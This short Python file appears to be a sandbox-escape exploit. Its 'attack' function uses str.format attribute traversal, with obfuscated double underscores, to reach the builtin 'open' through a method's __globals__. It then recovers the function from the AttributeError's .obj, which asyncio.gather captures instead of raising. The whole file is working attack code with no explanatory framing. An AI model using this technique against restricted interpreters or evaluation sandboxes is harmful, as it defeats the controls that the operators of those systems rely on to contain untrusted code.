# gained: function open
import asyncio
from typing import Any


class Own:
    obj: Any = None

    def go(self) -> None:
        return None


async def fail(template: str, value: Any) -> None:
    template.format(value)


async def gathered(template: str, value: Any) -> Any:
    return await asyncio.gather(fail(template, value), return_exceptions=True)


def read(template: str, value: Any) -> Any:
    return asyncio.run(gathered(template, value))[0].obj


def attack(path: str) -> Any:
    under = chr(95) * 2
    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
    return read(table[0], Own())
